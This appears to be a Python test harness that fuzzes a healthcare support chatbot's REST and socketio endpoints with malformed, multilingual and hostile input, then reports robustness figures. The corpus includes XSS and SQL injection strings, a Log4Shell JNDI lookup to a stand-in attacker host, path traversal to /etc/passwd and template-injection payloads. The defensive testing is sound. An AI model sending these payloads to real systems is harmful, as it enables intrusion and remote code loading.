"""Hostile and odd input, sent through the real servers over REST and socketio.

    python -m devtools.hostile [--write]

starts the assistant (scripts/serve.sh) on ports of its own, sends every input of the
corpus below, and prints how many were tried, how many got a sensible answer (a non-empty
reply, or a 4xx for an invalid request), the slowest reply, and whether the server stayed
up and the next normal conversation still works. --write puts the figures into
BENCHMARKS.md. tests/e2e/test_hostile_input.py asserts the same.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import tempfile
import time
import urllib.error
import urllib.request
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import socketio

from devtools.assistant import Assistant

PORTS = (15205, 15255, 18280)
REPLY_TIMEOUT = 30.0  # seconds: a reply slower than this counts as a failure

_TEXTS = [
    "",
    " ",
    "\n\t\r",
    "\x00\x01\x02 aidn er nede \x1b[31m",
    "hei\r\n2026-11-29 INFO forged log line",
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)"> aidn virker ikke',
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "${jndi:ldap://attacker.example/a}",
    "${AIDN_DB_PASSWORD} {line_number} %s%s%s%n {{7*7}}",
    "../../../../etc/passwd",
    "🔥🔥🔥",
    "👩‍⚕️ aidn er helt nede 😱😱",
    "مرحبا، النظام لا يعمل",
    "שלום, המערכת לא עובדת",
    "\u202eenned re ndia\u202c",
    "a\u200b\u200bi\u200bd\u200bn er nede",
    "A" * 1999,
    "ord" * 700,
    "x" * 2001,
    "aidn er nede " * 8000,  # about 100 KB
    "1/1 " * 25000,  # 100 KB of date-like numbers
    "a og " * 20000,  # 100 KB for the class pattern
    "/restart",
    "/session_start",
    "/share_personal_data",
    '/fault_critical{"severity": "A"}',
    "/affirm",
    "our system is down, nobody can log in",
    "how do I add a new medication?",
    "korleis endrar eg tiltaksplanen?",
    "æ får itj logga inn, ingen av oss",
    "ka e klokka",
    "HJELP!!!!!!!!!!!!!!!!!!!!!!!!!!",
    "???",
    "...",
    "ååååååååååååååååå",
    "pasient 27894228771 får ikke opp journalen",
    "fnr-27894228771.",
    "12345678901234567890123456789012345678901234567890",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    "\\u0000\\n",
    "\ud83d",  # an unpaired surrogate, as JSON may carry it
    "Ω≈ç√∫µ≤≥÷ \ufb01 \ufb02 \u01c5 \u1e9e \u02dc",  # ligatures, titlecase, small tilde
]
# The same texts again with a sentence around them: what users paste into a real message.
_WRAPPED = [f"hei, {text} – hva gjør jeg?" for text in _TEXTS[3:40]]


@dataclass
class Case:
    label: str
    body: bytes
    expect_status: int = 200  # 400 for an invalid request, 413 for a body over 1 MB


def rest_corpus() -> list[Case]:
    cases = [
        Case(f"text {i}", json.dumps({"sender": f"hostile-{i}", "message": text}).encode())
        for i, text in enumerate(_TEXTS + _WRAPPED)
    ]
    invalid = [
        b"",
        b"{not json",
        b'{"sender": "x", "message": "\xff\xfe invalid utf-8"}',
        b"\xff\xff\xff",
        b"[]",
        b'"just a string"',
        b"null",
        b'{"message": "hei"}',
        b'{"sender": null, "message": "hei"}',
        b'{"sender": 42, "message": "hei"}',
        b'{"sender": ["a"], "message": "hei"}',
        b'{"sender": "a\\nb", "message": "hei"}',
        b'{"sender": "' + b"s" * 200 + b'", "message": "hei"}',
        b'{"sender": "../../etc", "message": "hei"}',
        b'{"sender": "ok", "message": 42}',
        b'{"sender": "ok", "message": ["hei"]}',
        b'{"sender": "ok", "message": {"text": "hei"}}',
        b'{"sender": "27894228771", "message": "hei"}',
        b'{"sender": "ok-1", "message": null}',
    ]
    cases += [Case(f"invalid {i}", body, 400) for i, body in enumerate(invalid)]
    huge = b'{"sender": "huge", "message": "' + b"x" * 1_500_000 + b'"}'
    cases.append(Case("body over 1 MB", huge, 413))
    odd_but_valid = [
        b'{"sender": "ok-2", "message": "hei", "metadata": "not a dict"}',
        b'{"sender": "ok-3", "message": "hei", "metadata": {"aidn_clock": 5}}',
        b'{"sender": "ok-4", "message": "hei", "extra": [1, 2, 3]}',
    ]
    cases += [Case(f"odd {i}", body) for i, body in enumerate(odd_but_valid)]
    return cases


def socketio_corpus() -> list[Any]:
    """Texts, then messages that are no text: dropped, with no reply and no harm."""
    return [*(_TEXTS + _WRAPPED), *INVALID_SOCKETIO]


INVALID_SOCKETIO = [42, None, ["hei"], {"text": "hei"}]


@dataclass
class Outcome:
    tried: int = 0
    sensible: int = 0
    failures: list[str] = field(default_factory=list)
    slowest: float = 0.0


def post(port: int, body: bytes) -> tuple[int, Any, float]:
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/webhooks/rest/webhook",
        data=body,
        headers={"Content-Type": "application/json"},
    )
    started = time.monotonic()
    try:
        with urllib.request.urlopen(request, timeout=REPLY_TIMEOUT) as response:
            return response.status, json.load(response), time.monotonic() - started
    except urllib.error.HTTPError as error:
        return error.code, None, time.monotonic() - started


def run_rest(port: int) -> Outcome:
    outcome = Outcome()
    for case in rest_corpus():
        outcome.tried += 1
        try:
            status, replies, seconds = post(port, case.body)
        except Exception as failure:  # the server did not answer at all
            outcome.failures.append(f"REST {case.label}: {type(failure).__name__}")
            continue
        outcome.slowest = max(outcome.slowest, seconds)
        answered = (
            status == 200 and isinstance(replies, list) and any(r.get("text") for r in replies)
        )
        if status == case.expect_status and (status != 200 or answered):
            outcome.sensible += 1
        else:
            outcome.failures.append(f"REST {case.label}: status {status}, replies {replies!r:.80}")
    return outcome


def run_socketio(port: int, origin: str) -> Outcome:
    async def scenario() -> Outcome:
        outcome = Outcome()
        client = socketio.AsyncClient()
        replies: asyncio.Queue[Any] = asyncio.Queue()
        token: asyncio.Future[str] = asyncio.get_running_loop().create_future()
        client.on("bot_uttered", replies.put_nowait)

        def confirmed(issued: str) -> None:
            if not token.done():
                token.set_result(issued)

        client.on("session_confirm", confirmed)
        await client.connect(f"http://127.0.0.1:{port}", headers={"Origin": origin})
        await client.emit("session_request", {"session_id": None})
        session = await asyncio.wait_for(token, 10)
        for number, message in enumerate(socketio_corpus()):
            outcome.tried += 1
            while not replies.empty():
                replies.get_nowait()
            started = time.monotonic()
            await client.emit("user_uttered", {"message": message, "session_id": session})
            invalid = not isinstance(message, str)
            try:
                reply = await asyncio.wait_for(replies.get(), 3 if invalid else REPLY_TIMEOUT)
                if invalid:
                    outcome.failures.append(f"socketio {number}: answered {message!r}")
                    continue
                await asyncio.sleep(0.3)  # the rest of this turn's replies
            except asyncio.TimeoutError:
                if invalid:
                    outcome.sensible += 1
                else:
                    outcome.failures.append(f"socketio {number}: no reply to {message!r:.40}")
                continue
            outcome.slowest = max(outcome.slowest, time.monotonic() - started)
            if reply.get("text"):
                outcome.sensible += 1
            else:
                outcome.failures.append(f"socketio {number}: empty reply")
        await client.disconnect()
        return outcome

    return asyncio.run(scenario())


def still_works(assistant: Assistant) -> bool:
    return "A-feil" in assistant.texts("after-hostile", "Aidn er helt nede")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--write", action="store_true", help="update BENCHMARKS.md")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as var_dir:
        assistant = Assistant(Path(var_dir), ports=PORTS)
        try:
            rest = run_rest(assistant.rasa_port)
            sio = run_socketio(assistant.rasa_port, assistant.web_url)
            works = still_works(assistant)
            up = assistant.group.running()
        finally:
            assistant.stop()
    tried, sensible = rest.tried + sio.tried, rest.sensible + sio.sensible
    slowest = max(rest.slowest, sio.slowest)
    summary = (
        f"{tried} inputs ({rest.tried} over REST, {sio.tried} over socketio): {sensible} "
        f"answered sensibly, {tried - sensible} not; slowest reply {slowest:.2f} s; "
        f"server {'up' if up else 'DOWN'} afterwards; the next normal conversation "
        f"{'works' if works else 'FAILS'}."
    )
    print(summary)
    for failure in rest.failures + sio.failures:
        print("  " + failure)
    if args.write:
        from benchmarks.report import machine, write_section

        failures = "".join(f"\n- {failure}" for failure in rest.failures + sio.failures)
        write_section(
            "hostile",
            f"## Hostile and odd input\n\nCommand: `make hostile` (`python -m devtools.hostile "
            f"--write`). Measured {machine()}.\n\n{summary}{failures}",
        )


if __name__ == "__main__":
    main()
